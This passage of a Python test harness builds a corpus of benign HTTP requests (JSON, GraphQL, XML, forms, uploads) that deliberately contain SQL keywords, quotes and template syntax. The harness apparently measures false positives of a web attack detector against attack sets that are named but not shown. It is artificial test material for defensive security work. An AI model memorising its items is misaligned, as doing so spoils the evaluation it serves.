                                "components": {"securitySchemes": {"bearer": {"type": "http", "scheme": "bearer", "bearerFormat": "JWT"}}}}),
        js(b, "/api/v1/validators", {"field": "email", "regex": "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$"}),
        js(b, "/api/v1/validators", {"field": "route", "regex": "^/api/v[0-9]+/(users|orders)/\\d+$"}),
        js(b, "/api/v1/jobs", {"name": "nightly-report", "schedule": "0 2 * * 1-5", "command": "report --format=pdf --out=reports/daily.pdf"}),
        js(b, "/api/v1/search/es", {"query": {"bool": {"must": [{"match": {"title": "drop table"}}], "filter": [{"range": {"price": {"gte": 10, "lte": 200}}}]}},
                                    "sort": [{"created_at": "desc"}], "size": 20}),
        js(b, "/api/v1/sheets/values", {"range": "Sheet1!A1:C3", "values": [["Item", "Qty", "Total"], ["Mug", "2", "=B2*9.5"], ["Sum", "", "=SUM(C2:C2)"]]}),
        js(b, "/api/v1/logs/ingest", {"lines": ['127.0.0.1 - - [10/Oct/2023:13:55:36 +0000] "GET /index.html HTTP/1.1" 200 2326 "-" "Mozilla/5.0"',
                                                "2024-04-02T10:00:01Z ERROR db.py:42 OperationalError: near \"SELECT\": syntax error",
                                                "Traceback (most recent call last):\n  File \"/app/main.py\", line 12, in <module>\n    main()\nKeyError: 'user'"]}),
        js(b, "/api/v1/imports", {"filename": "products.csv", "csv": 'sku,name,price\nA1,"Drop Table \u2013 Oak, 120cm",499.00\nA2,"Chair; ""Select"" edition",89.50\nA3,Union Sofa,1299'},
           ascii_only=False),
        js(b, "/api/v1/webhooks", {"url": "https://hooks.slack.com/services/T0000000/B0000000/XXXXXXXXXXXXXXXXXXXXXXXX", "events": ["order.created", "order.paid"]}),
        js(b, "/api/v1/profile", {"avatar_url": "https://s.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=80&d=identicon", "website": "https://jane.dev"}, "PATCH"),
        js(b, "/api/v1/integrations", {"callback_url": "https://app.example.com/integrations/callback?provider=github&state=abc"}),
        js(b, "/api/v1/users/me/password", {"current": "Tr0ub4dor&3", "new": "correct horse battery staple; 42!"}, "PUT"),
        js(b, "/api/v1/users/me/password", {"current": "p4$$w0rd!<>", "new": "P@ss'w0rd\"2024#"}, "PUT"),
        js(b, "/api/v1/payments", {"amount": 1299, "currency": "eur", "card": {"number": "4242424242424242", "exp": "12/28", "cvc": "123"},
                                   "metadata": {"order_id": "ord_8FjKq2", "note": "Gift -- please wrap"}}),
        js(b, "/api/v1/notes", {"body": "Meeting notes: 1) migrate users table; 2) drop legacy column `fax`; 3) select a new vendor.", "shared": True}),
        js(b, "/api/v1/notes", {"body": "Path on my laptop: C:\\Users\\Ana\\Desktop\\notes.txt and ~/projects/app/src/index.ts"}),
        js(b, "/api/v1/notes", {"body": "Formula: if x > 0 && y < 10 then z = x | y; else z = x & y"}),
        js(b, "/api/v1/translations", {"key": "checkout.total", "value": "Total: {{amount}} ({{count}} items)", "locale": "en"}),
        js(b, "/api/v1/translations", {"key": "welcome", "value": "Bienvenue, ${firstName} ! Vous avez %d messages.", "locale": "fr"}, ascii_only=False),
        js(b, "/api/v1/templates", {"name": "order-confirmation", "body": "Hi {{ customer.first_name }},\n{% for item in items %}- {{ item.name }} x{{ item.qty }}\n{% endfor %}"}),
        js(b, "/api/v1/events", {"type": "page_view", "url": "https://shop.example/p/oak-table?ref=newsletter&utm_source=email", "ts": 1712052000123,
                                 "ua": CHROME, "screen": "1920x1080"}),
        js(b, "/api/v1/csp-report", {"csp-report": {"document-uri": "https://shop.example/checkout", "violated-directive": "script-src-elem",
                                                    "blocked-uri": "https://cdn.thirdparty.example/widget.js", "line-number": 12}}),
        js(b, "/api/v1/bulk", [{"id": i, "name": f"Item {i}", "price": 9.99 + i, "tags": ["sale", "new"]} for i in range(30)]),
        js(b, "/api/v1/devices", {"model": "Pixel 8", "os": "Android 14", "push_token": "fcm:APA91bHPRgkF3JUikC4ENAHEeMrd41Zxv3hVZjC9KtT8OvPVGJ-hQMRKRrZuJAEcl7B338qju59zJMjw2DELjzEvxwYv7hH5Ynpc1ODQ0aT4U4OFEeco8ohsN5PjL1iC2dNtk2BAokeMCg2ZXKqpc8FXKmhX94kIxQ"}),
        js(b, "/api/v1/recipes", {"title": "Crème brûlée", "steps": ["Heat cream to 80°C", "Whisk yolks & sugar", "Bake at 150°C for 40'"]}, ascii_only=False),
        js(b, "/api/v1/messages", {"text": "lol 😂😂 see you at 8? <- not 9!! :) ;) :-|", "channel": "#general"}, ascii_only=False),
        js(b, "/api/v1/messages", {"text": "Quick q: is `1 OR 2` the same as `1 || 2` in JS? and what about 'a' + 'b'?", "channel": "#dev"}),
        js(b, "/api/v1/commits", {"ref": "refs/heads/main", "commits": [
            {"id": "a1b2c3d", "message": "Fix SQL injection in search (use bound params)\n\nCloses #812"},
            {"id": "d4e5f6a", "message": "Revert \"drop users.legacy_id migration\""},
            {"id": "b7c8d9e", "message": "Escape <script> in markdown preview; add XSS tests"}],
            "repository": {"full_name": "acme/shop", "html_url": "https://github.com/acme/shop"}}, headers={"X-GitHub-Event": "push", "User-Agent": "GitHub-Hookshot/8e2f1a3"}),
        js(b, "/api/v1/gists", {"files": {"deploy.sh": {"content": "#!/usr/bin/env bash\nset -euo pipefail\nrsync -av ./dist/ deploy@web1:/var/www/app/\nsystemctl reload nginx\n"}}}),
        js(b, "/api/v1/tickets/9/attachments", {"name": "screenshot.png", "data": "data:image/png;base64," + base64.b64encode(bytes(range(256)) * 6).decode()}),
        js(b, "/api/v1/docs", {"title": "Q1 plan", "content": base64.b64encode(b"Quarterly plan\nGoals: grow 20%\nRisks: supply chain").decode(), "encoding": "base64"}),
        js(b, "/api/v1/emails/inbound", {"from": "Jane Doe <jane@example.org>", "subject": "Re: Your order #5512",
                                         "text": "Hi,\n\nthanks -- all good. One question: can I change the size to \"L\"?\n\n> On Mon you wrote:\n> Your order has shipped.\n\nJane",
                                         "html": "<div dir=\"ltr\">Hi,<br><br>thanks -- all good.<br><div class=\"gmail_quote\">On Mon you wrote:</div></div>"}),
    ]

    # GraphQL
    r += [
        gql(b, "query Product($slug: String!) { product(slug: $slug) { id name price { amount currency } images(first: 4) { url alt } } }", {"slug": "oak-table-120"}),
        gql(b, "mutation AddToCart($input: CartLineInput!) { cartLinesAdd(lines: [$input]) { cart { id totalQuantity } userErrors { field message } } }",
            {"input": {"merchandiseId": "gid://shop/ProductVariant/4411", "quantity": 2}}),
        gql(b, "query { viewer { login repositories(first: 5, orderBy: {field: UPDATED_AT, direction: DESC}) { nodes { name } } } }"),
        gql(b, "fragment P on Product { id name __typename }\nquery Home { featured: products(tag: \"featured\") { ...P } sale: products(tag: \"sale\") { ...P } }"),
        gql(b, "query Search($q: String!, $after: String) { search(query: $q, first: 20, after: $after) @include(if: true) { edges { cursor node { id } } } }",
            {"q": "O'Reilly \"drop\" table", "after": "YXJyYXljb25uZWN0aW9uOjE5"}),
        gql(b, "mutation UpdateProfile($bio: String) { updateProfile(bio: $bio) { id bio } }", {"bio": "I <3 SQL & Python; ex-DBA; 'select' is my favourite keyword."}),
        js(b, "/graphql", [{"query": "query { me { id } }"}, {"query": "query { cart { id totalQuantity } }"}]),
    ]

    # XML without entities
    r += [
        xml(b, "/soap/OrderService", '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Header/><soap:Body><GetOrder xmlns="urn:shop"><id>4411</id></GetOrder></soap:Body></soap:Envelope>', "text/xml"),
        xml(b, "/api/v1/feeds", '<?xml version="1.0"?><rss version="2.0"><channel><title>Shop news</title><link>https://shop.example/</link><item><title>Spring sale &amp; new arrivals</title><description><![CDATA[<p>Up to <b>50%</b> off</p>]]></description></item></channel></rss>', "application/rss+xml"),
        xml(b, "/api/v1/sitemaps", '<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://shop.example/p/oak-table</loc><lastmod>2024-04-01</lastmod></url></urlset>'),
        xml(b, "/api/v1/invoices", '<?xml version="1.0"?><Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>INV-2024-001</ID><Note>Payment within 30 days; late fee 2%</Note><Amount currencyID="EUR">1299.00</Amount></Invoice>'),
        multipart(b, "/api/v1/uploads", [("file", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4" fill="#e33"/></svg>', "dot.svg", "image/svg+xml")]),
    ]

    # forms and uploads
    r += [
        form(b, "/api/v1/login", {"email": "zoe.o'neil@example.ie", "password": "Sunny;Day&2024!", "remember": "on"}),
        form(b, "/api/v1/checkout", {"name": "Renée O'Hara", "address": "5th & Main, Apt #3", "zip": "10001", "notes": "Leave at door -- ring twice"}),
        form(b, "/api/v1/contact", {"name": "Bob", "message": "Is the 'Drop Table' still in stock? I'd select the oak one.", "newsletter": "yes"}),
        form(b, "/api/v1/search/advanced", {"title": "sql OR nosql", "author": "Date, C.J.", "year_from": "1990", "year_to": "2024"}),
        form(b, "/api/v1/saml/acs", {"SAMLResponse": b64('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_8e8dc5f69a98cc4c1ff3427e5ce34606fd672f91e6" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.org</saml:Issuer></samlp:Response>'),
                                     "RelayState": "https://app.example.com/dashboard"}),
        multipart(b, "/api/v1/uploads", [("title", "Resume", None, None), ("file", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n%%EOF", "Jane O'Brien - CV (2024).pdf", "application/pdf")]),
        multipart(b, "/api/v1/uploads", [("file", bytes(range(256)) * 4, "IMG_2041.HEIC", "image/heic")]),
        multipart(b, "/api/v1/imports", [("file", 'email,name,note\n"a@example.com","Smith, John","VIP; prefers phone"\n"b@example.com","Zoë","said ""hi"""\n', "contacts.csv", "text/csv")]),
        multipart(b, "/api/v1/snippets", [("file", "#!/bin/sh\n# backup script\ntar czf /backups/db-$(date +%F).tgz /var/lib/data\n", "backup.sh", "text/x-shellscript")]),
        multipart(b, "/api/v1/uploads", [("file", "Meeting notes\n- use SELECT ... FOR UPDATE in the worker\n- don't DROP the old index yet\n", "notes.txt", "text/plain")]),
        multipart(b, "/api/v1/uploads", [("file", b'{"name": "demo", "scripts": {"build": "tsc && node dist/index.js"}}', "package.json", "application/json")]),
    ]
    return r


# --------------------------------------------------------------------------------------------------

def attack_requests() -> list[Req]:
    return check(sqli() + xss() + rce() + traversal() + ssrf() + xxe() + nosqli() + ssti() + log4shell()
                 + deserialization() + crlf() + injection() + node() + redirect() + protocol() + scanner())


def benign_requests() -> list[Req]:
    return check(benign())


def main() -> None:
    evaluate(attack_requests(), benign_requests(), __doc__)


if __name__ == "__main__":
    main()
